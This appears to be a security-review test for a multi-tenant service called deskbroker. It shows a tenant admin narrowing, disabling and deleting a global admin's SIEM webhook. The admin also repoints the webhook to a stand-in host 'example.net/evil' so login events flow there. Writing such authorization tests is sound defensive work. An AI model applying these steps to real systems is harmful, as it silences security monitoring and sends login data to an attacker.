"""Review scratch: a tenant admin of the global admin's tenant tampers with the global
admin's webhook (no standing check on webhooks)."""
from __future__ import annotations

from deskbroker.bootstrap import add_local_user
from tests.helpers import USER_PASSWORD, Api

SECRET = "s" * 32


def test_tenant_admin_switches_off_and_repoints_global_admins_webhook(api: Api) -> None:
    hook = api.post("webhooks", {"name": "siem", "url": "http://example.org/siem",
                                 "kinds": ["login", "session"], "secret": SECRET})
    add_local_user(api.ctx, "tad", USER_PASSWORD, role="tenant_admin")
    tad = Api(api.client, api.ctx, api.login("tad")["token"])
    # Silently narrow what the global admin's SIEM receives (same URL, same secret):
    out = tad.patch(f"webhooks/{hook['id']}", {"kinds": ["quota_reached"]})
    print("narrowed:", out["kinds"], out["set_by_user_id"] if "set_by_user_id" in out else "")
    out = tad.patch(f"webhooks/{hook['id']}", {"enabled": False})
    print("disabled:", out["enabled"])
    out = tad.patch(f"webhooks/{hook['id']}", {"enabled": True, "url": "http://example.net/evil", "secret": "t" * 32, "kinds": ["login"]})
    print("repointed:", out["url"])
    tad.delete(f"webhooks/{hook['id']}")
    print("deleted; global admin sees:", api.get("webhooks")["total"])
